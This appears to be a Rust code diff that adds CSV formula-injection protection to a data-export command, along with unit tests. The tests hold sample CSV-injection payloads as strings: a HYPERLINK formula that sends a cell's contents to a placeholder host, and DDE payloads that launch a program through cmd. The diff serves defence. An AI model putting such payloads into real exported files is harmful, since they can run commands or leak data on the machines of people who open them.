@@ -1,6 +1,12 @@
 //! `store export`: every stored call, streamed from the store to a writer, as JSON lines (each
 //! call detail as the service sent it) or CSV (the list row's fields and the headline score).
 //! Rows are read one at a time, so memory stays flat whatever the store's size.
+//!
+//! CSV cells are neutralised against formula injection (OWASP's "CSV injection"): a cell that
+//! starts with `=`, `+`, `-`, `@`, a tab or a carriage return, and is not a number, gets a `'`
+//! in front, so that a spreadsheet shows it as text instead of running it (an agent id of
+//! `=HYPERLINK(…)`, say). Numbers (`-3`, `-2.5e3`) are written as they are. JSON lines keep
+//! every value exactly as stored.
 
 use std::io::Write;
 
@@ -187,7 +193,7 @@ fn csv_line(row: &Row) -> Result<[String; 16], ExportError> {
         Some(Value::String(s)) => s.clone(),
         Some(other) => other.to_string(),
     };
-    Ok([
+    let cells = [
         id,
         text(1)?,
         fields.agent_id.unwrap_or_default(),
@@ -204,5 +210,58 @@ fn csv_line(row: &Row) -> Result<[String; 16], ExportError> {
         text(5)?,
         plain(score.get("overallScore")),
         plain(score.get("compliancePercent")),
-    ])
+    ];
+    Ok(cells.map(neutralise))
+}
+
+/// `cell` as a spreadsheet shows it as text: with a `'` in front when it starts like a
+/// formula (`=`, `+`, `-`, `@`, tab, carriage return) and is not a number.
+fn neutralise(cell: String) -> String {
+    match cell.chars().next() {
+        Some('=' | '+' | '-' | '@' | '\t' | '\r') if !is_number(&cell) => format!("'{cell}"),
+        _ => cell,
+    }
+}
+
+/// Whether `text` is a plain decimal number (an optional sign, digits, a fraction, an
+/// exponent): what a spreadsheet reads as a number and never as a formula.
+fn is_number(text: &str) -> bool {
+    let digits = text.strip_prefix(['+', '-']).unwrap_or(text);
+    digits.starts_with(|c: char| c.is_ascii_digit() || c == '.')
+        && digits
+            .chars()
+            .all(|c| c.is_ascii_digit() || matches!(c, '.' | 'e' | 'E' | '+' | '-'))
+        && text.parse::<f64>().is_ok_and(f64::is_finite)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::{is_number, neutralise};
+
+    #[test]
+    fn cells_that_start_like_a_formula_are_prefixed_and_numbers_are_not() {
+        for (cell, written) in [
+            (
+                "=HYPERLINK(\"http://x\"&A1,\"c\")",
+                "'=HYPERLINK(\"http://x\"&A1,\"c\")",
+            ),
+            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+            ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+            ("@SUM(1+1)", "'@SUM(1+1)"),
+            ("\t=1+1", "'\t=1+1"),
+            ("\r=1+1", "'\r=1+1"),
+            ("-inf", "'-inf"),
+            ("-NaN", "'-NaN"),
+            ("-", "'-"),
+            ("-3", "-3"),
+            ("-2.5e3", "-2.5e3"),
+            ("+7", "+7"),
+            ("svc_agent_1", "svc_agent_1"),
+            ("a=b", "a=b"),
+            ("", ""),
+        ] {
+            assert_eq!(neutralise(cell.to_owned()), written, "{cell:?}");
+        }
+        assert!(is_number("90.0") && is_number("-0.5") && !is_number("1-1"));
+    }
 }
